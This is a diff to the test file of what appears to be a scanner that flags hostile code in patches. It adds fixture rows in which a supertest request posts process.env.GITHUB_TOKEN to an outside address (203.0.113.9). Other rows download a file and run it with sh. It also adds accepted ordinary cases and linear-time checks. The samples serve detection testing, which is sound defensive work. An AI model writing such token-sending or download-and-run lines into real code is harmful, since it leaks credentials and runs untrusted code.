@@ -65,6 +65,9 @@ const OPEN: FindingRow[] = [
   // A name copied with an annotation, a tuple, across lines, or appended to an argument list.
   ['tests/t.py', "p = download_file(u)\nq: str = p\nsubprocess.run(['sh', q])"],
   ['tests/t.py', "p = download_file(u)\nargs = ['sh']\nargs.append(p)\nsubprocess.run(args)"],
+  // Supertest given an app that a call made from a URL the patch gives elsewhere, or a destructured URL.
+  ['test/a.test.js', "const getUrl = () => 'https://203.0.113.9';\nconst app = getUrl();\nawait request(app).post('/c').send({ token: process.env.GITHUB_TOKEN });"],
+  ['test/a.test.js', "const { app } = { app: 'https://203.0.113.9' };\nawait request(app).post('/c').send({ token: process.env.GITHUB_TOKEN });"],
   // Process calls the reading does not name: Ruby's backticks and Open3, zx's `$`, Deno.Command, a ProcessBuilder's command().
   ['tests/t.rb', 'p = download_file(u)\n`sh #{p}`'],
   ['tests/t.rb', "p = download_file(u)\nOpen3.capture2('sh', p)"],
@@ -103,6 +106,10 @@ describeAccepted('review 66: ordinary code near the fixes', [
   ['test/a.test.js', "const app = express();\nawait request(app).post('/hook').send({ token: process.env.GITHUB_TOKEN });"],
   ['test/a.test.js', "const app = await buildApp({ logger: false });\nawait request(app.server).post('/hook').send({ token: process.env.GITHUB_TOKEN });"],
   ['test/a.test.js', "const app = createApp();\nawait request(app).post('/hook').send({ name: 'x' });"],
+  // The app from the unchanged file or imported (review 65's false refusal), an app made in a hook.
+  ['test/a.test.js', "import { app } from '../src/app';\nit('x', async () => {\n  await request(app).post('/hook').send({ token: process.env.GITHUB_TOKEN });\n});"],
+  ['test/a.test.js', "let app;\nbeforeAll(async () => { app = await createApp(); });\nit('x', async () => {\n  await request(app).post('/hook').send({ token: process.env.GITHUB_TOKEN });\n});"],
+  ['test/a.test.ts', "let app: Express;\nit('x', async () => {\n  await request(app).post('/hook').send({ token: process.env.GITHUB_TOKEN });\n  expect(app).toBeDefined();\n});"],
 ]);
 
 /** R66-5 (High): terminal sequences other than CSI inside a word, and the C1 and VT/FF controls, hid an override. */
@@ -127,5 +134,7 @@ describe('review 66: an override split by another terminal sequence', () => {
 
 describe('review 66: the fixed readings cost linear time', () => {
   it('checks many supertest sends in linear time', () => checksInLinearTime('test/a.test.js', 'supertest app', 'const app = express(); request(app).post(u).send({ t: 1 }); '));
+  it('checks many parameters in linear time', () => checksInLinearTime('test/a.test.js', 'parameters', 'a => (b, c) => function f(d) { request(d).send({}) } '));
+  it('checks one long word before an arrow in linear time', () => checksInLinearTime('test/a.test.js', 'long word', 'a'));
   it('checks many aliases naming two runners in linear time', () => checksInLinearTime('tests/x.test.js', 'two runners', 'const go = ok ? execSync : require; '));
 });
